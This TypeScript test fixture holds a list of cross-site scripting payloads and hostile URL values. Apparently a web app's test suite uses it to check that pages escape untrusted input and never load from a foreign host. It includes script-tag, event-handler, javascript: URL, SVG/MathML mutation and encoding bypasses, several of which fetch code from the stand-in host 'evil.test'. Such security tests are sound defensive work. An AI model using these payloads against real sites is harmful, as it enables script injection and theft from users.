/** Calls the function that the test gives every page, so that any script that runs is noticed. */
const RUN = 'ran(1)';
/** A host that no page may contact. */
const FOREIGN = 'evil.test';

/**
 * Texts that become scripts where they are not escaped. Each contains “mark”, by which a test finds that a
 * page shows them.
 */
export const PAYLOADS: readonly string[] = [
  `mark<script>${RUN}</script>`,
  `mark<ScRiPt >${RUN}</sCrIpT >`,
  `mark<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `mark<script src=//${FOREIGN}/x.js></script>`,
  `mark<img src=x onerror=${RUN}>`,
  `mark<img src=x onerror="${RUN}"//`,
  `mark<img/src="x"/onerror="${RUN}">`,
  `mark<img src="//${FOREIGN}/x.png">`,
  `mark<img srcset="//${FOREIGN}/x.png 1x">`,
  `mark<picture><source srcset="//${FOREIGN}/y.png"><img></picture>`,
  `mark<svg onload=${RUN}>`,
  `mark<svg><script>${RUN}</script></svg>`,
  `mark<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `mark<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `mark<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `mark<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `mark<math href="javascript:${RUN}">x</math>`,
  `mark<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `mark<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `mark<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `mark<template><img src=x onerror=${RUN}></template>`,
  `mark<!--><img src=x onerror=${RUN}>-->`,
  `mark<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `mark<a href="javascript:${RUN}">x</a>`,
  `mark<a href="java\tscript:${RUN}">x</a>`,
  `mark<a href="&#106;avascript&colon;${RUN}">x</a>`,
  `mark<a href="\u0001javascript:${RUN}">x</a>`,
  `mark<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `mark<a href="vbscript:${RUN}">x</a>`,
  `mark<iframe src="javascript:${RUN}"></iframe>`,
  `mark<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `mark<object data="javascript:${RUN}"></object>`,
  `mark<embed src="//${FOREIGN}/x.swf">`,
  `mark<base href="//${FOREIGN}/">`,
  `mark<meta http-equiv=refresh content="0;url=//${FOREIGN}/">`,
  `mark<link rel=stylesheet href="//${FOREIGN}/x.css">`,
  `mark<style>@import "//${FOREIGN}/x.css";</style>`,
  `mark<p style="background:url(//${FOREIGN}/x.png)">x`,
  `mark<p style="width:expression(${RUN})">x`,
  `mark<p style="color:red;}*{background:url(//${FOREIGN}/z.png)">x`,
  `mark<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `mark<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `mark<body onload=${RUN}><input autofocus onfocus=${RUN}>`,
  `mark<form action="javascript:${RUN}"><button>x</button></form>`,
  `mark<div tabindex=0 autofocus onfocus=${RUN} contenteditable>x</div>`,
  `mark" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `mark' onerror='${RUN}' src='x`,
  `mark"><img src=x onerror=${RUN}>`,
  `mark'><svg onload=${RUN}>`,
  `mark</title><script>${RUN}</script>`,
  `mark</script><script>${RUN}</script>`,
  `mark</textarea><img src=x onerror=${RUN}>`,
  `mark","x":"</script><img src=x onerror=${RUN}>`,
  `mark\\u003cimg src=x onerror=${RUN}\\u003e`,
  `mark\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `mark\`;${RUN};\``,
  `mark\u2028${RUN}\u2029`,
  `mark＜script＞${RUN}＜/script＞`,
  `mark<img src=x \u0000onerror=${RUN}>`,
  `mark%3Cscript%3E${RUN}%3C/script%3E`,
  `mark&lt;img src=x onerror=${RUN}&gt;`,
  `mark\u202e<script>${RUN}</script>`,
];

/** Payloads for address fields: each must be rejected, or not become a link. */
export const ADDRESSES: readonly string[] = [
  `javascript:${RUN}//mark`,
  `JaVaScRiPt:${RUN}//mark`,
  `java\nscript:${RUN}//mark`,
  `\u0001javascript:${RUN}//mark`,
  `data:text/html,<script>${RUN}</script>mark`,
  `vbscript:${RUN}//mark`,
  `blob:mark`,
  `https:javascript:${RUN}//mark" onmouseover="${RUN}`,
  `//${FOREIGN}/mark`,
  `/\\${FOREIGN}/mark`,
];

/** The payloads that fit into a short field. */
export const shorterThan = (length: number) => PAYLOADS.filter((each) => each.length <= length);
